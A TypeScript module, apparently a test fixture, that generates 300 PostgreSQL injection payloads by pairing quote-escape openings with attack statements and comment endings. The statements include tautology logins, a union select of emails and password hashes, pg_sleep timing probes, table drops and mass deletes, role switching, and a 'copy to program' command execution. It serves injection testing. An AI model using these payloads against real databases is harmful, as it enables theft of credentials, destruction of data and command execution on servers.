/** Ways out of a value's position. */
const OPENINGS = [
  "'",
  '"',
  '',
  "')",
  "'))",
  "\\'",
  '%',
  "%'",
  "E'\\'",
  '$$',
  '`',
  "';",
  '0',
  '-1',
  '1)',
]

/** Attacks: reading, waiting, changing, failing. */
const STATEMENTS = [
  ' or 1=1',
  " or 'a'='a",
  ' and 1=0 union select null,null,null',
  ' union all select email,password_hash,null from accounts',
  '; select pg_sleep(3)',
  ' or (select 1 from pg_sleep(3)) is not null',
  ' || (select pg_sleep(3))::text || ',
  " and 1=cast((select version()) as int) and '1'='1",
  '; drop table users cascade',
  "; update institutions set status='REJECTED'",
  "; delete from sales where ''=''",
  "; select set_config('app.institution', (select id::text from institutions limit 1), false)",
  '; set role postgres; reset role',
  "; copy (select 1) to program 'id'",
  " order by (select case when 1=1 then pg_sleep(3)::text else '' end)",
  ' limit 1 offset (select count(*) from pg_sleep(3))',
  ' returning *',
  ' and exists(select * from generate_series(1,100000000))',
  '; begin; lock table sales; ',
  ' is null',
]
const ENDINGS = ['--', '#', '/*', ' -- -']

/** 300 of them: every statement behind every opening. */
export const SQL_PAYLOADS: readonly string[] = OPENINGS.flatMap((opening, place) =>
  STATEMENTS.map(
    (statement, number) => opening + statement + (ENDINGS[(place + number) % ENDINGS.length] ?? ''),
  ),
)
